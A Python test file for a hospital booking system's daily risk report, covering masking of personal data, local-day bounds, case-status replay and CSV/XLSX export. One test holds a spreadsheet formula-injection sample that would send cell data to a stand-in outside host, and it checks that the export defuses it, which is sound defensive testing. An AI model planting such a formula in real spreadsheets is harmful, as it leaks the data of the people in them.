"""The daily risk report's pure core: masking, local days, the case status replay, counting
and the shapes it leaves in. No database."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from fairslot.cases.states import CaseEventKind, CaseStatus
from fairslot.followup.states import CallOutcome, CallReason
from fairslot.risk import report_files
from fairslot.risk.report import (
    RULES,
    AlertLine,
    BlacklistLine,
    CaseLine,
    ClosedCase,
    DailyReport,
    RunSummary,
    build,
    close_of_day,
    day_bounds,
    scrub,
    status_after,
)
from fairslot.risk.report_shapes import as_json, sections

UTC = dt.UTC
DAY = dt.date(2026, 11, 21)
T = dt.datetime(2026, 11, 21, 3, 0, tzinfo=UTC)  # 11:00 in Shanghai


def test_scrub_masks_phones_ids_cards_emails_and_addresses_typed_into_text() -> None:
    assert scrub("called 13812345678 twice") == "called 138***78 twice"
    assert scrub("called +86 138 1234 5678") == "called +861***78"
    assert scrub("ID 11010519491231002X seen") == "ID 110***2X seen"
    assert scrub("card 6222 0212 3456 7890 123") == "card 622***23"
    assert scrub("pays from zhang.wei@example.com") == "pays from z***@example.com"
    assert scrub("booked from 198.51.100.20") == "booked from 198.51.*.*"


def test_scrub_leaves_dates_times_counts_and_masked_labels_readable() -> None:
    text = "2026-11-21 10:30: 7 bookings in department 4, label 138***78, account 31"
    assert scrub(text) == text


def test_scrub_turns_control_characters_into_spaces() -> None:
    assert scrub("line\x00one\x1b") == "line one "


@given(st.text(alphabet="0123456789 Xx-:@.abc+", max_size=80))
def test_scrub_leaves_no_run_of_seven_digits_and_is_idempotent(text: str) -> None:
    once = scrub(text)
    assert not re.search(r"\d(?: ?\d){6,}", once)
    assert scrub(once) == once


def test_status_after_replays_the_case_ledger() -> None:
    kinds = [
        CaseEventKind.OPENED,
        CaseEventKind.TAKEN,
        CaseEventKind.CALL_REQUESTED,
        CaseEventKind.CALL_OUTCOME,
        CaseEventKind.ALERT_ADDED,
    ]
    assert status_after(kinds, default=CaseStatus.OPEN) is CaseStatus.AWAITING_CALL
    assert status_after([*kinds, CaseEventKind.CALLS_DONE], default=CaseStatus.OPEN) is (
        CaseStatus.OPEN
    )
    assert status_after([], default=CaseStatus.OPEN) is CaseStatus.OPEN


def test_a_local_day_is_its_own_length_in_utc() -> None:
    assert day_bounds(DAY, "Asia/Shanghai") == (
        dt.datetime(2026, 11, 20, 16, 0, tzinfo=UTC),
        dt.datetime(2026, 11, 21, 16, 0, tzinfo=UTC),
    )
    start, end = day_bounds(dt.date(2026, 3, 29), "Europe/Berlin")  # clocks go forward
    assert end - start == dt.timedelta(hours=23)


def test_the_close_of_a_day_waits_for_a_run_that_finished_after_midnight() -> None:
    midnight = dt.datetime(2026, 11, 21, 16, 0, tzinfo=UTC)
    late = midnight + dt.timedelta(minutes=42)
    assert close_of_day(DAY, "Asia/Shanghai", run_finished=late) == late
    assert close_of_day(DAY, "Asia/Shanghai", run_finished=midnight - dt.timedelta(hours=1)) == (
        midnight
    )
    assert close_of_day(DAY, "Asia/Shanghai", run_finished=None) == midnight


def _run() -> RunSummary:
    return RunSummary(
        run_date=DAY,
        window_start=T - dt.timedelta(days=7),
        window_end=T,
        started_at=T,
        finished_at=T + dt.timedelta(minutes=2),
        bookings_seen=10,
        events_seen=20,
        hits=2,
        rings_flagged=0,
        runs=1,
        actor="worker",
    )


def _alert(n: int, rule: str, score: float, label: str = "138***78") -> AlertLine:
    return AlertLine(
        id=n,
        rule=rule,
        entity_kind="phone",
        label=label,
        score=score,
        explanation="x",
        bookings=5,
        case_id=None,
    )


def _report(**overrides: object) -> DailyReport:
    values: dict[str, object] = {
        "day": DAY,
        "zone": "Asia/Shanghai",
        "run": _run(),
        "alerts": [],
        "opened": [],
        "closed": [],
        "still_open": [],
        "blacklist_added": [],
        "blacklist_lifted": [],
        "calls_done": [],
    }
    values.update(overrides)
    return build(**values)  # type: ignore[arg-type]


def test_build_counts_every_known_rule_then_any_rule_it_does_not_know() -> None:
    report = _report(
        alerts=[_alert(1, "no_shows", 1.0), _alert(2, "no_shows", 3.0), _alert(3, "new_rule", 1)]
    )
    assert report.rule_counts[: len(RULES)] == tuple(
        (rule, 2 if rule == "no_shows" else 0) for rule in RULES
    )
    assert report.rule_counts[len(RULES) :] == (("new_rule", 1),)
    assert [a.id for a in report.alerts] == [2, 1, 3]


def test_build_lists_every_call_outcome_and_masks_every_text() -> None:
    report = _report(
        alerts=[_alert(1, "sex_mismatch", 1.0, label="13812345678")],
        calls_done=[(CallReason.SAMPLE, CallOutcome.UNREACHABLE)],
        closed=[
            ClosedCase(
                id=4,
                subject_kind="phone",
                label="138***78",
                score=1,
                alerts=1,
                outcome=CaseStatus.CONFIRMED,
                by="wang",
                reason="broker on 13812345678",
                closed_at=T,
            )
        ],
    )
    assert report.alerts[0].label == "138***78"
    assert report.closed[0].reason == "broker on 138***78"
    assert [(c.outcome, c.total) for c in report.calls] == [
        (CallOutcome.GENUINE, 0),
        (CallOutcome.SUSPICIOUS, 0),
        (CallOutcome.UNREACHABLE, 1),
    ]


def test_a_ring_label_names_a_hash_and_is_left_as_it_is() -> None:
    ring = "ring 20261121 (6 patients, 3 accounts)"
    report = _report(
        alerts=[
            AlertLine(
                id=1,
                rule="ring",
                entity_kind="ring",
                label=ring,
                score=2,
                explanation="x",
                bookings=19,
                case_id=None,
            ),
            _alert(2, "transfer", 1.0, label="phone 13812345678"),
        ]
    )
    assert [a.label for a in report.alerts] == [ring, "phone 138***78"]


def test_every_row_of_every_section_has_as_many_cells_as_its_header() -> None:
    case = CaseLine(
        id=1,
        subject_kind="ring",
        label="ring",
        score=2,
        alerts=3,
        status=CaseStatus.OPEN,
        opened_at=T,
    )
    entry = BlacklistLine(
        id=9,
        scope="phone",
        label="138***78",
        by="zhao",
        at=T,
        case="1",
        reason="r",
        expires_at=None,
    )
    report = _report(
        alerts=[_alert(1, "ring", 2)],
        opened=[case],
        still_open=[case],
        blacklist_added=[entry],
        blacklist_lifted=[entry],
    )
    for section in sections(report):
        assert section.rows, section.name
        assert all(len(row) == len(section.headers) for row in section.rows), section.name
    assert as_json(report)["cases"]["opened"][0]["opened_at"] == "2026-11-21T11:00:00+08:00"


def test_text_a_spreadsheet_would_run_as_a_formula_stays_text() -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    report = _report(
        blacklist_added=[
            BlacklistLine(
                id=1,
                scope="device",
                label="-x",
                by="@it",
                at=T,
                case=None,
                reason=evil,
                expires_at=None,
            )
        ]
    )
    rows = list(csv.reader(io.StringIO(report_files.to_csv(report))))
    added = next(row for row in rows if row and row[0] == "added")
    assert added[3:5] == ["'-x", "'@it"]
    assert added[7] == "'" + evil
    sheet = load_workbook(io.BytesIO(report_files.to_xlsx(report)))["Blacklist"]
    cell = sheet.cell(row=2, column=8)
    assert (cell.value, cell.data_type) == (evil, "s")
